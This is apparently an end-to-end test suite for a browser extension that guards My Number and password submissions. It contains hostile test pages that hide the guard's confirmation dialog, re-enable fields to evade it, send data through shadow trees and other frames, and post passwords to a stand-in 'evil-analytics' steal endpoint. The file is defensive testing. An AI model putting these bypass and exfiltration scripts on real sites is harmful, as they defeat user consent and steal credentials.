// A hostile page against the form guard (issue 11, "the hook and the guard"): each bypass class is a page
// written to get a My Number or a password past the guard without the user's informed confirmation, and
// each has a control that must still pass. One body of tests, run in each of BROWSERS through the driver
// (driver.ts: the dialog, in its closed shadow root, is found over CDP or BiDi and clicked with a real
// mouse click). The hook's part: in Chromium on the unpacked extension (no backstop there: what gets
// through here would get through); in Firefox the temporary add-on has blocking webRequest, so the
// backstop is on as well, and every case asserts the hook's own dialog (which the backstop never shows).
// The backstop's part: in Chromium on the force-installed extension, in Firefox on the same install.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { BROWSERS, chromiumDriver, launch } from './browser.ts';
import {
  sleep,
  tid,
  waitArmed,
  waitInExtension,
  waitInTab,
  type BrowserName,
  type GuardBrowser,
  type Tab,
} from './driver.ts';
import { launchForceInstalled } from './force-install.ts';
import { startTestServer, type TestServer } from './server.ts';

const MY_NUMBER = '1234-5678-9018';

const html = (title: string, body: string, script = '') =>
  `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>${title}</title></head>` +
  `<body><h1 id="page">${title}</h1>${body}<script>${script}</script></body></html>`;

const myNumberForm = (action: string) => `
  <form id="apply" method="post" action="${action}">
    <label>氏名 <input name="name" value="山田 太郎"></label>
    <label>個人番号 <input id="mynumber" name="mynumber"></label>
    <button id="save" name="op" value="save">送信</button>
  </form>`;

// ---- 1. the dialog's host restyled by the page
// Each attack runs when the dialog's host appears (the page sees it: it is an element of its document).
const onHost = (attack: string) => `
  new MutationObserver((records) => {
    for (const r of records) for (const n of r.addedNodes) {
      if (!(n instanceof HTMLElement) || !(n.getAttribute('style') || '').includes('2147483647')) continue;
      const host = n, html = document.documentElement;
      const sheet = (css) => { const s = document.createElement('style'); s.textContent = css; document.head.append(s); };
      ${attack}
    }
  }).observe(document.documentElement, { childList: true });`;

const HOST_ATTACKS: Record<string, string> = {
  'host zoom 0.04': `host.style.setProperty('zoom', '0.04', 'important');`,
  'host -webkit-text-fill-color transparent': `host.style.setProperty('-webkit-text-fill-color', 'transparent', 'important');`,
  'host opacity by class': `sheet('.ghost { opacity: 0.02 !important; }'); host.className = 'ghost';`,
  'host clip-path': `host.style.setProperty('clip-path', 'inset(50%)', 'important');`,
  'host transform': `host.setAttribute('style', host.getAttribute('style') + 'transform: scale(0.05) !important;');`,
  'host filter': `host.style.setProperty('filter', 'blur(12px)', 'important');`,
  'host visibility': `host.style.setProperty('visibility', 'hidden', 'important');`,
  'root zoom 0.04': `html.style.zoom = '0.04';`,
  'root filter by stylesheet': `sheet('html { filter: opacity(0.03) !important; }');`,
  'root -webkit-text-fill-color with zoom, undone at pointerdown': `
      sheet('html.trap { zoom: 0.04; -webkit-text-fill-color: transparent; }'); html.classList.add('trap');
      addEventListener('pointerdown', () => html.classList.remove('trap'), true);`,
};

// ---- 2. the form changed by the page after the guard looked; forms in trees no attachShadow announced
const DISABLED = (where: string) => `
  const f = document.getElementById('apply'), n = document.getElementById('mynumber');
  document.getElementById('save').addEventListener('pointerdown', () => { n.disabled = true; });
  ${where}`;
const REENABLE: Record<string, string> = {
  'the form’s own submit listener': `f.addEventListener('submit', () => { n.disabled = false; });`,
  'a document listener, bubbling': `document.addEventListener('submit', () => { n.disabled = false; });`,
  'the form’s listener, stopping every other': `f.addEventListener('submit', (e) => { n.disabled = false; e.stopImmediatePropagation(); });`,
};
const DSD_FORM = (value: string) =>
  `<div class="dsd"><template shadowrootmode="open"><form method="post" action="/apply/dsd"><input name="mynumber" data-testid="dsd-mynumber" value="${value}"><button id="dsd-go" data-testid="dsd-go">送信</button></form></template></div>`;
const DSD_PAGES: Record<string, string> = {
  'setHTMLUnsafe, requestSubmit() by the page': `
    const host = document.createElement('div'); document.body.append(host);
    host.setHTMLUnsafe(${JSON.stringify(DSD_FORM('123456789018'))});
    window.go = () => host.querySelector('.dsd').shadowRoot.querySelector('form').requestSubmit();`,
  'setHTMLUnsafe inside a closed tree, requestSubmit() by the page': `
    const outer = document.createElement('div'); document.body.append(outer);
    const closed = outer.attachShadow({ mode: 'closed' });
    const inner = document.createElement('div'); closed.append(inner);
    inner.setHTMLUnsafe(${JSON.stringify(DSD_FORM('123456789018'))});
    window.go = () => inner.querySelector('.dsd').shadowRoot.querySelector('form').requestSubmit();`,
  'setHTMLUnsafe, requestSubmit() later through an iframe’s prototype (no announcement: seen added)': `
    const host = document.createElement('div'); document.body.append(host);
    host.setHTMLUnsafe(${JSON.stringify(DSD_FORM('123456789018'))});
    const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
    window.go = () => frame.HTMLFormElement.prototype.requestSubmit.call(host.querySelector('.dsd').shadowRoot.querySelector('form'));`,
  'setHTMLUnsafe and requestSubmit() through an iframe’s prototype in one task, before any observer could run': `
    const host = document.createElement('div'); document.body.append(host);
    const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
    window.go = () => {
      host.setHTMLUnsafe(${JSON.stringify(DSD_FORM('123456789018'))});
      frame.HTMLFormElement.prototype.requestSubmit.call(host.querySelector('.dsd').shadowRoot.querySelector('form'));
    };`,
  'Document.parseHTMLUnsafe, adopted, requestSubmit() by the page': `
    const parsed = Document.parseHTMLUnsafe('<div id="x">' + ${JSON.stringify(DSD_FORM('123456789018'))} + '</div>');
    const host = document.adoptNode(parsed.getElementById('x')); document.body.append(host);
    window.go = () => host.querySelector('.dsd').shadowRoot.querySelector('form').requestSubmit();`,
};

// ---- 3. another frame's realm: an XHR opened through an iframe's prototype, a password sent from another frame
const PASSWORD = 'correct horse 42';
const REALMS = `
  window.frame = document.getElementById('f').contentWindow;
  const result = (x) => new Promise((done) => { x.onload = () => done('sent'); x.onerror = () => done('failed'); });
  // open() of one realm, send() of the other, on the same object
  window.mixed = (body, openIn, sendIn) => {
    const x = new XMLHttpRequest();
    const r = result(x);
    openIn.XMLHttpRequest.prototype.open.call(x, 'POST', '/api/mixed');
    sendIn.XMLHttpRequest.prototype.send.call(x, body);
    return r;
  };
  window.frameFetch = (value) =>
    frame.fetch('/api/realm', { method: 'POST', body: JSON.stringify({ note: value }) }).then(() => 'sent', () => 'failed');`;
const REALMS_BODY = '<label>パスワード <input id="pw" type="password"></label><iframe id="f" src="/blank"></iframe>';

/** The guard's dialog, seen and clicked the way a user does (a real mouse click at the button's centre). */
class Dialog {
  constructor(private readonly tab: Tab) {}
  async waitOpen(mode?: string, timeout = 10_000): Promise<{ mode: string; text: string }> {
    const start = Date.now();
    for (;;) {
      const n = await this.tab.findDeep('form-dialog');
      if (n) {
        const m = n.attributes['data-mode'] ?? '';
        if (!mode || m === mode) return { mode: m, text: n.text };
      }
      if (Date.now() - start > timeout) throw new Error(`no dialog${mode ? ` (${mode})` : ''}`);
      await sleep(100);
    }
  }
  click(testid: string) {
    return this.tab.clickDeep(testid);
  }
}

// ---- with the backstop: the extension force-installed the way admins install it
const EVIL = 'https://collect.evil-analytics.example';
const TRICK_FORM = `<form id="f" method="post" action="${EVIL}/steal">
  <input name="user" value="taro"><input id="pw" name="password" type="password"><button id="go">ログイン</button></form>`;
const FORCED_PAGES: Record<string, string> = {
  // the hook now judges this one again after the page's listener: its dialog, not the backstop's notice
  '/disabled': html(
    'disabled',
    TRICK_FORM,
    `go.addEventListener('pointerdown', () => { pw.disabled = true; });
     f.addEventListener('submit', () => { pw.disabled = false; });`,
  ),
  // what the hook cannot see: the page's own formdata listener, which stops every other, adds the password
  '/formdata': html(
    'formdata',
    TRICK_FORM.replace(' name="password"', ''),
    `f.addEventListener('formdata', (e) => { e.formData.append('d', btoa(pw.value)); e.stopImmediatePropagation(); });`,
  ),
};

const call = <R = unknown>(tab: Tab, fn: string, ...args: unknown[]) =>
  tab.evaluate(([f, a]) => (window as unknown as Record<string, (...x: unknown[]) => R>)[f!]!(...(a as unknown[])), [
    fn,
    args,
  ] as const) as Promise<R>;

/** The pages of both parts, on the hosts they are served from. */
function hookPages(): Record<string, string> {
  const pages: Record<string, string> = {
    '/plain': html('plain', myNumberForm('/apply/draft')),
    // Controls: a page that watches the dialog's host (reads it, never writes it) and one that restyles itself.
    '/watcher': html(
      'watcher',
      myNumberForm('/apply/draft'),
      onHost(`window.seenHost = [host.getAttribute('style'), getComputedStyle(host).zoom];`),
    ),
    '/busy': html(
      'busy',
      myNumberForm('/apply/draft') + '<p id="tick">0</p>',
      `setInterval(() => { tick.textContent = String(+tick.textContent + 1); document.body.classList.toggle('odd'); tick.style.color = tick.style.color ? '' : 'red'; }, 50);`,
    ),
  };
  Object.values(REENABLE).forEach((where, i) => {
    pages[`/disabled/${i}`] = html('disabled', myNumberForm('/apply/draft'), DISABLED(where));
  });
  Object.values(DSD_PAGES).forEach((script, i) => {
    pages[`/dsd/${i}`] = html('dsd', '', script);
  });
  pages['/dsd-click'] = html(
    'dsd',
    '',
    `const host = document.createElement('div'); document.body.append(host); host.setHTMLUnsafe(${JSON.stringify(DSD_FORM(''))});`,
  );
  pages['/dsd-plain'] = html(
    'dsd',
    '',
    `const host = document.createElement('div'); document.body.append(host); host.setHTMLUnsafe(${JSON.stringify(DSD_FORM('hello'))});
     window.go = () => host.querySelector('.dsd').shadowRoot.querySelector('form').requestSubmit();`,
  );
  // Controls: a page that adds a token in its submit listener, one that builds FormData there and fetches.
  pages['/token'] = html(
    'token',
    '<form id="c" method="post" action="/comment"><input name="text" value="こんにちは"><button id="go">投稿</button></form>',
    `c.addEventListener('submit', () => { const t = document.createElement('input'); t.type = 'hidden'; t.name = 'token'; t.value = 'abc'; c.append(t); });`,
  );
  pages['/by-script'] = html(
    'by-script',
    '<form id="c" method="post" action="/comment"><input name="text" value="こんにちは"><button id="go">投稿</button></form><p id="done"></p>',
    `c.addEventListener('submit', (e) => { e.preventDefault(); fetch('/comment', { method: 'POST', body: new FormData(c) }).then((r) => { done.textContent = String(r.status); }); });`,
  );
  pages['/realms'] = html('realms', REALMS_BODY, REALMS);
  pages['/blank'] = html('blank', '');
  pages['/framed-login'] = html(
    'framed-login',
    '<iframe id="f" src="/login-frame"></iframe>',
    `window.send = () => fetch('/api/realm', { method: 'POST', body: JSON.stringify({ note: document.getElementById('f').contentDocument.getElementById('pw').value }) }).then(() => 'sent', () => 'failed');`,
  );
  pages['/login-frame'] = html('login', '<input id="pw" type="password">');
  Object.entries(HOST_ATTACKS).forEach(([, attack], i) => {
    pages[`/attack/${i}`] = html('attack', myNumberForm('/apply/draft'), onHost(attack));
  });
  return pages;
}

describe.each(BROWSERS)('a hostile page against the form guard in %s', (name: BrowserName) => {
  let server: TestServer;
  // Firefox: one temporary add-on for both parts (its backstop is on from the start).
  let firefox: GuardBrowser | undefined;
  let mark = 0;
  const since = () => server.requests.slice(mark);
  const posts = (host: string, path?: string) =>
    since().filter((r) => r.method === 'POST' && r.host === host && (path === undefined || r.url === path));

  beforeAll(async () => {
    server = await startTestServer();
    const serve = (host: string, pages: Record<string, string>, fallback: (path: string) => string) =>
      server.route(host, (req, res) => {
        const path = (req.url ?? '/').split('?')[0]!;
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end(pages[path] ?? fallback(path));
      });
    serve('forms.example.net', hookPages(), (path) => html(path, ''));
    serve('www.ssk.or.jp', FORCED_PAGES, () => html('ssk', ''));
  });
  afterAll(async () => {
    await firefox?.close();
    await server?.close();
  });

  const launchFirefoxOnce = async (): Promise<GuardBrowser> => {
    if (!firefox) {
      firefox = await launch('firefox', { serverPort: server.port });
      await waitInExtension(firefox, async () => (await chrome.storage.local.get('policyStatus')).policyStatus);
    }
    return firefox;
  };
  /** Every case starts on a fresh tab of `b`: no dialog left over from the one before. */
  const freshTabs = (browser: () => GuardBrowser) => {
    let tab: Tab | undefined;
    beforeEach(async () => {
      await tab?.close();
      tab = await browser().newTab();
      mark = server.requests.length;
    });
    afterAll(async () => {
      await tab?.close().catch(() => undefined);
    });
    return () => tab!;
  };

  describe(
    name === 'chromium'
      ? 'the hook alone (unpacked: no backstop)'
      : 'the hook (the backstop is on too: each case asserts the hook’s own dialog)',
    () => {
      let b: GuardBrowser;
      beforeAll(async () => {
        if (name === 'firefox') b = await launchFirefoxOnce();
        else {
          b = await launch('chromium', { serverPort: server.port });
          await waitInExtension(b, async () => (await chrome.storage.local.get('policyStatus')).policyStatus);
        }
      });
      afterAll(async () => {
        if (b && b !== firefox) await b.close();
      });
      const tab = freshTabs(() => b);

      /** Fills in the My Number, submits, and waits for the confirmation. */
      async function submitMyNumber(path: string) {
        const page = tab();
        await page.goto(`https://forms.example.net${path}`);
        await page.fill('#mynumber', MY_NUMBER);
        await page.click('#save');
        return new Dialog(page);
      }
      const framesReady = () => waitInTab(tab(), () => (window as any).frame?.document?.readyState === 'complete');

      it.each(Object.keys(HOST_ATTACKS).map((name, i) => [name, i] as const))(
        'dialog restyled by the page (%s): the send is cancelled and the user told why',
        async (_name, i) => {
          const d = await submitMyNumber(`/attack/${i}`);
          // The notice replaces the confirmation as soon as the page touches it: there is no "send" left to click.
          const notice = await d.waitOpen('notice');
          expect(notice.text).toContain('確認画面の表示を改変');
          expect(notice.text).toContain('altered the confirmation dialog');
          expect(notice.text).toContain('8.1.1(5)(f)');
          await sleep(300);
          expect(posts('forms.example.net', '/apply/draft')).toHaveLength(0);
        },
      );

      it.each(['/plain', '/watcher', '/busy'])(
        'control: a dialog the page does not touch (%s) confirms, and the form arrives once',
        async (path) => {
          const d = await submitMyNumber(path);
          await d.waitOpen('confirm');
          await waitArmed(tab()); // the confirmation arms itself after a moment
          await Promise.all([tab().waitForUrl('https://forms.example.net/apply/draft'), d.click('send')]);
          const got = posts('forms.example.net', '/apply/draft');
          expect(got).toHaveLength(1);
          expect(got[0]!.body).toContain('mynumber=');
        },
      );

      it.each(Object.keys(REENABLE).map((name, i) => [name, i] as const))(
        'a field disabled at pointerdown and enabled again in %s is judged again: held, nothing sent without the user',
        async (_name, i) => {
          const d = await submitMyNumber(`/disabled/${i}`);
          const shown = await d.waitOpen('confirm');
          expect(shown.text).toContain('マイナンバー');
          await sleep(300);
          expect(posts('forms.example.net', '/apply/draft')).toHaveLength(0);
          await tab().press('Escape');
          await sleep(300);
          expect(posts('forms.example.net', '/apply/draft')).toHaveLength(0);
          if (i !== 0) return;
          // confirmed, it goes once, as the page built it
          await tab().click('#save');
          await d.waitOpen('confirm');
          await waitArmed(tab());
          await Promise.all([tab().waitForUrl('https://forms.example.net/apply/draft'), d.click('send')]);
          const got = posts('forms.example.net', '/apply/draft');
          expect(got).toHaveLength(1);
          expect(got[0]!.body).toContain('mynumber=1234-5678-9018');
        },
      );

      it('control: a page that adds a token in its submit listener posts at once; one that posts FormData by fetch too', async () => {
        const page = tab();
        await page.goto('https://forms.example.net/token');
        await Promise.all([page.waitForUrl('https://forms.example.net/comment'), page.click('#go')]);
        const got = posts('forms.example.net', '/comment');
        expect(got).toHaveLength(1);
        expect(got[0]!.body).toContain('token=abc');
        mark = server.requests.length;
        await page.goto('https://forms.example.net/by-script');
        await page.click('#go');
        await waitInTab(page, () => document.getElementById('done')?.textContent === '200');
        expect(posts('forms.example.net', '/comment')).toHaveLength(1);
      });

      it.each(Object.keys(DSD_PAGES).map((name, i) => [name, i] as const))(
        'a form in a declarative shadow tree (%s) is judged: held, nothing sent without the user',
        async (_name, i) => {
          const page = tab();
          await page.goto(`https://forms.example.net/dsd/${i}`);
          const d = new Dialog(page);
          await call(page, 'go');
          expect((await d.waitOpen('confirm')).text).toContain('マイナンバー');
          await page.press('Escape');
          await sleep(300);
          expect(posts('forms.example.net', '/apply/dsd')).toHaveLength(0);
        },
      );

      it('a declarative shadow tree the user types into and submits is judged; control: one carrying nothing sensitive goes', async () => {
        const page = tab();
        await page.goto('https://forms.example.net/dsd-click');
        const d = new Dialog(page);
        await page.clickDeep('dsd-mynumber');
        await page.type(MY_NUMBER);
        await page.clickDeep('dsd-go');
        await d.waitOpen('confirm');
        await page.press('Escape');
        await sleep(300);
        expect(posts('forms.example.net', '/apply/dsd')).toHaveLength(0);
        await page.goto('https://forms.example.net/dsd-plain');
        // submitted a task later, so the evaluation returns before the navigation begins
        await page.evaluate(() => void setTimeout(() => (window as unknown as { go(): void }).go()));
        await page.waitForUrl('https://forms.example.net/apply/dsd');
        expect(posts('forms.example.net', '/apply/dsd')).toHaveLength(1);
      });

      it.each([
        ['opened through the iframe’s prototype, sent through the page’s', 'frame', 'window'],
        ['opened through the page’s prototype, sent through the iframe’s', 'window', 'frame'],
      ])('an XHR %s carrying a My Number is stopped and said so', async (_name, openIn, sendIn) => {
        const page = tab();
        await page.goto('https://forms.example.net/realms');
        await framesReady();
        const d = new Dialog(page);
        const r = page.evaluate(
          ([o, s]) => (window as any).mixed('mynumber=123456789018', (window as any)[o!], (window as any)[s!]),
          [openIn, sendIn],
        );
        const shown = await d.waitOpen('block');
        expect(shown.text).toContain('マイナンバー');
        await page.press('Escape');
        expect(await r).toBe('failed');
        expect(posts('forms.example.net', '/api/mixed')).toHaveLength(0);
      });

      it('control: a mixed-realm XHR carrying nothing sensitive, and one with no body, go at once', async () => {
        const page = tab();
        await page.goto('https://forms.example.net/realms');
        await framesReady();
        expect(await page.evaluate(() => (window as any).mixed('view=top', (window as any).frame, window))).toBe(
          'sent',
        );
        expect(await page.evaluate(() => (window as any).mixed(null, window, (window as any).frame))).toBe('sent');
        expect(posts('forms.example.net', '/api/mixed')).toHaveLength(2);
      });

      it('a password typed in the page and sent from an iframe’s realm is held; so is one typed in a frame and sent from the page', async () => {
        const page = tab();
        await page.goto('https://forms.example.net/realms');
        await framesReady();
        await page.click('#pw');
        await page.type(PASSWORD);
        const d = new Dialog(page);
        // control first: a value the user did not type goes at once
        expect(await call(page, 'frameFetch', 'こんにちは')).toBe('sent');
        expect(posts('forms.example.net', '/api/realm')).toHaveLength(1);
        const r = call(page, 'frameFetch', PASSWORD);
        expect((await d.waitOpen('confirm')).text).toContain('パスワード');
        await page.press('Escape');
        expect(await r).toBe('failed');
        expect(posts('forms.example.net', '/api/realm')).toHaveLength(1);

        await page.goto('https://forms.example.net/framed-login');
        const frame = await page.frame('https://forms.example.net/login-frame');
        await frame.waitFor('#pw');
        await frame.click('#pw');
        await page.type(PASSWORD);
        const r2 = call(page, 'send');
        expect((await d.waitOpen('confirm')).text).toContain('パスワード');
        await page.press('Escape');
        expect(await r2).toBe('failed');
        expect(posts('forms.example.net', '/api/realm')).toHaveLength(1);
      });
    },
  );

  describe(
    name === 'chromium'
      ? 'the hook and the backstop (force-installed)'
      : 'the hook and the backstop (the same temporary add-on)',
    () => {
      let b: GuardBrowser;
      beforeAll(async () => {
        if (name === 'firefox') b = await launchFirefoxOnce();
        else {
          const forced = await launchForceInstalled({ hostPort: server.port });
          b = chromiumDriver(
            { ...forced, pushManagedPolicy: (policy) => forced.setManagedPolicy(policy ?? {}) },
            forced.extensionId,
          );
        }
        // Blocking granted (force-installed; any Firefox add-on): the backstop is on.
        const status = await waitInExtension(
          b,
          async () =>
            (await chrome.storage.local.get('backstopStatus')).backstopStatus as { enforcing?: boolean } | undefined,
        );
        expect(status.enforcing).toBe(true);
      });
      afterAll(async () => {
        if (b && b !== firefox) await b.close();
      });
      const tab = freshTabs(() => b);

      /** Types the password as a user does, and waits until the backstop holds its hash for this tab. */
      async function typePassword(page: Tab) {
        await page.click('#pw');
        await page.type(PASSWORD);
        await waitInExtension(
          b,
          async (url) => {
            const [t] = await chrome.tabs.query({ url });
            const s = (await chrome.storage.session.get('backstopSeen')).backstopSeen as
              { tabs?: Record<string, object> } | undefined;
            return t?.id !== undefined && String(t.id) in (s?.tabs ?? {});
          },
          await page.url(),
        );
      }

      it('a field disabled at pointerdown is caught by the hook itself: its dialog; cancelled nothing leaves, confirmed it arrives once (the backstop honours the grant)', async () => {
        const page = tab();
        await page.goto('https://www.ssk.or.jp/disabled');
        await typePassword(page);
        const d = new Dialog(page);
        await page.click('#go');
        expect((await d.waitOpen('confirm')).text).toContain('パスワード');
        await page.press('Escape');
        await sleep(300);
        expect(since().filter((r) => r.host === 'collect.evil-analytics.example')).toEqual([]);
        expect(await page.url()).toBe('https://www.ssk.or.jp/disabled');
        await page.click('#go');
        await d.waitOpen('confirm');
        await waitArmed(page);
        await Promise.all([page.waitForUrl(`${EVIL}/steal`), d.click('send')]);
        const got = posts('collect.evil-analytics.example');
        expect(got).toHaveLength(1);
        expect(got[0]!.body).toContain('password=');
      });

      it('a password the page adds in its own formdata listener (past the hook) is cancelled by the backstop', async () => {
        const page = tab();
        await page.goto('https://www.ssk.or.jp/formdata');
        await typePassword(page);
        await Promise.all([page.waitForUrl(/backstop-notice\.html#/), page.click('#go')]);
        await page.waitFor(tid('backstop-notice'));
        expect(await page.attribute(tid('backstop-notice'), 'data-clause')).toBe('8.1.1(5)(f)(ｲ)');
        expect(since().filter((r) => r.host === 'collect.evil-analytics.example')).toEqual([]);
      });
    },
  );
});
